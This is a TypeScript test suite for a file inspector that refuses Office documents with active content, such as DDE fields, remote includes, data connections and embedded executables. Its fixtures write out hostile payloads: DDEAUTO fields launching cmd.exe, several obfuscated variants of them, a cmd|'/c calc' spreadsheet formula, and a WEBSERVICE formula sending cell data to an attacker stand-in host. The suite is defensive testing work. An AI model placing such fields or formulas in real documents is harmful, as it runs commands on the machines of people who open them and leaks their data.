import { describe, expect, it } from 'vitest';
import { aDocx, anXlsx, relation } from './files';
import { inspected } from './inspected';

// Office documents with active content other than macros.

async function refusal(name: string, bytes: Uint8Array): Promise<string | undefined> {
  const result = await inspected(name, bytes);
  return 'refusal' in result ? result.refusal : undefined;
}

const run = (inner: string) => `<w:r>${inner}</w:r>`;
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const instruction = (...pieces: string[]) =>
  pieces.map((text) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`)).join('');
const field = (inner: string, result = 'texto') =>
  mark('begin') + inner + mark('separate') + run(`<w:t>${result}</w:t>`) + mark('end');
const paragraph = (inner: string) => `<w:p>${inner}</w:p>`;
const command = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';

describe('fields of Word that start a program or fetch a file are refused', () => {
  it.each([
    ['DDEAUTO', field(instruction(` ${command} `))],
    ['DDE cut into pieces', field(instruction(' D', 'DEAU', 'TO cmd "/k calc" '))],
    ['DDE in an entity', field(instruction('&#68;DEAUTO cmd'))],
    ['DDE in a simple field', `<w:fldSimple w:instr='DDEAUTO cmd "x"'><w:r/></w:fldSimple>`],
    [
      'DDE built by a field in it',
      field(field(instruction('QUOTE 68 68 69')) + instruction(' cmd')),
    ],
    ['DDE that never ends', mark('begin') + instruction('DDE cmd')],
    ['a text from elsewhere', field(instruction('INCLUDETEXT "https://evil.example/x.docx"'))],
    ['a picture from elsewhere', field(instruction('INCLUDEPICTURE "https://evil.example/p.png"'))],
    ['a linked object', field(instruction('LINK Excel.Sheet.8 "\\\\\\\\evil\\\\x.xlsx"'))],
  ])('%s', async (_what, body) => {
    expect(await refusal('guia.docx', aDocx({ body: paragraph(body) }))).toBe('fileConnected');
  });

  it('in a header too, and in a document of another encoding', async () => {
    const header = {
      name: 'word/header1.xml',
      content: `<w:hdr>${field(instruction(command))}</w:hdr>`,
    };
    expect(await refusal('guia.docx', aDocx({ parts: [header] }))).toBe('fileConnected');
    const content = Buffer.from(`\ufeff<w:hdr>${field(instruction(command))}</w:hdr>`, 'utf16le');
    const other = { name: 'word/header1.xml', content };
    expect(await refusal('guia.docx', aDocx({ parts: [other] }))).toBe('fileDamaged');
  });

  it('in a part under any name, in UTF-16 too', async () => {
    const xml = `<w:hdr>${field(instruction(command))}</w:hdr>`;
    for (const part of [
      { name: 'word/header1.dat', content: xml },
      { name: 'other/main', content: `\ufeff${xml}` },
      { name: 'customXml/item1.xml', content: Buffer.from(`\ufeff${xml}`, 'utf16le') },
      { name: 'other/main.xml', content: Buffer.from(xml, 'utf16le') },
    ])
      expect(await refusal('guia.docx', aDocx({ parts: [part] }))).toBe('fileConnected');
  });

  it('what is no XML, or is not quite, is taken where documents have it', async () => {
    const parts = [
      { name: 'xl/drawings/vmlDrawing1.vml', content: '<xml><div>nota<br></div></xml>' },
      {
        name: 'customXml/item1.xml',
        content: Buffer.from('\ufeff<?xml version="1.0" encoding="utf-16"?><a/>', 'utf16le'),
      },
      { name: 'word/media/image1.svg', content: '<!DOCTYPE svg><svg/>' },
      { name: 'word/media/image1.emf', content: Buffer.from([1, 0, 0, 0, 0xff]) },
    ];
    expect(await refusal('guia.docx', aDocx({ parts }))).toBeUndefined();
    const broken = [{ name: 'word/header1.xml', content: '<w:hdr><w:p></w:hdr>' }];
    expect(await refusal('guia.docx', aDocx({ parts: broken }))).toBe('fileDamaged');
  });

  it('what documents hold every day is taken', async () => {
    const fields = [
      'PAGE \\* MERGEFORMAT',
      'TOC \\o "1-3" \\h',
      'HYPERLINK "https://example.org"',
      'REF _Ref1 \\h',
      'DATE \\@ "d/M/yyyy"',
      'SEQ Tabla',
    ].map((text) => field(instruction(text)));
    const counted = field(instruction('= ') + field(instruction('PAGE')) + instruction(' - 1'));
    const speaks = run('<w:t>El ataque DDE y LINK se explican aquí.</w:t>');
    const body = paragraph([...fields, counted, speaks].join(''));
    expect(await refusal('guia.docx', aDocx({ body }))).toBeUndefined();
  });
});

describe('workbooks that fetch data are refused', () => {
  const formula = (text: string) => ({
    rows: `<row r="1"><c r="A1"><f>${text}</f><v>1</v></c></row>`,
  });
  const part = (name: string, content = '<x/>') => ({ parts: [{ name, content }] });
  it.each([
    ['a connection', part('xl/connections.xml', '<connections><connection id="1"/></connections>')],
    [
      'a link by DDE',
      part('xl/externalLinks/externalLink1.xml', '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    ],
    ['a query', part('xl/queryTables/queryTable1.xml')],
    ['a model of data', part('xl/model/item.data')],
    ['Power Query', part('customXml/item1.xml', '<DataMashup>UEsDB</DataMashup>')],
    ['an add-in', part('xl/webextensions/webextension1.xml')],
    ['DDE in a formula', formula("cmd|'/c calc'!A0")],
    ['a page in a formula', formula('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)')],
    ['a picture in a formula', formula('_xlfn.IMAGE("https://evil.example/p.png")')],
    ['a server in a formula', formula('RTD("x",,"y")')],
  ])('%s', async (_what, wishes) => {
    expect(await refusal('datos.xlsx', anXlsx(wishes))).toBe('fileConnected');
  });

  it.each([
    'SUM(A1:A9)',
    'A1&amp;"|\'x\'!"&amp;B1',
    'IF(A1="CALL(1)",1,2)',
    'HYPERLINK("https://example.org")',
  ])('the formula %s is taken', async (text) => {
    expect(await refusal('datos.xlsx', anXlsx(formula(text)))).toBeUndefined();
  });
});

describe('files in the file are refused', () => {
  it.each([
    'word/embeddings/oleObject1.bin',
    'word/embeddings/Book1.xlsm',
    'word/embeddings/informe.pdf.exe',
    'word/embeddings/Presentacion.pptx',
  ])('%s', async (name) => {
    expect(await refusal('guia.docx', aDocx({ parts: [{ name, content: 'x' }] }))).toBe(
      'fileEmbedded',
    );
  });

  it('a page that is made part of the document', async () => {
    const rels = relation('aFChunk', 'afchunk.htm');
    expect(await refusal('guia.docx', aDocx({ rels }))).toBe('fileEmbedded');
  });

  it.each([
    ['package', 'media/evil.exe', 'fileEmbedded'],
    ['oleObject', 'media/oleObject1.bin', 'fileEmbedded'],
    ['control', 'ctl/c1.xml', 'fileMacros'],
    ['ui/extensibility', 'own/ribbon.xml', 'fileMacros'],
    ['webextension', 'we/w1.xml', 'fileConnected'],
  ])('by a %s that leads to %s, whatever it is called', async (type, target, expected) => {
    const parts = [{ name: `word/${target}`, content: '<x/>' }];
    expect(await refusal('guia.docx', aDocx({ rels: relation(type, target), parts }))).toBe(
      expected,
    );
  });

  it('programs and compound files under the name of a picture', async () => {
    for (const start of ['4d5a90000300000004000000', 'd0cf11e0a1b11ae10000']) {
      const parts = [{ name: 'word/media/image1.png', content: Buffer.from(start, 'hex') }];
      const rels = relation('image', 'media/image1.png');
      expect(await refusal('guia.docx', aDocx({ rels, parts }))).toBe('fileEmbedded');
    }
  });

  it('the workbook behind a chart is looked into like any other', async () => {
    const inner = (content: Buffer) =>
      aDocx({
        rels: relation('package', 'embeddings/Libro.xlsx'),
        parts: [{ name: 'word/embeddings/Libro.xlsx', content }],
      });
    const macro = { parts: [{ name: 'xl/vbaProject.bin', content: 'x' }] };
    const connection = { parts: [{ name: 'xl/connections.xml', content: '<x/>' }] };
    const again = { parts: [{ name: 'xl/embeddings/otro.xlsx', content: anXlsx() }] };
    expect(await refusal('guia.docx', inner(anXlsx()))).toBeUndefined();
    expect(await refusal('guia.docx', inner(anXlsx(macro)))).toBe('fileMacros');
    expect(await refusal('guia.docx', inner(anXlsx(connection)))).toBe('fileConnected');
    expect(await refusal('guia.docx', inner(anXlsx(again)))).toBe('fileEmbedded');
    const rows = `<row r="1"><c r="A1"><f>cmd|'/c calc'!A0</f></c></row>`;
    expect(await refusal('guia.docx', inner(anXlsx({ rows })))).toBe('fileConnected');
    expect(await refusal('guia.docx', inner(Buffer.from('PK nothing')))).toBe('fileDamaged');
  });
});
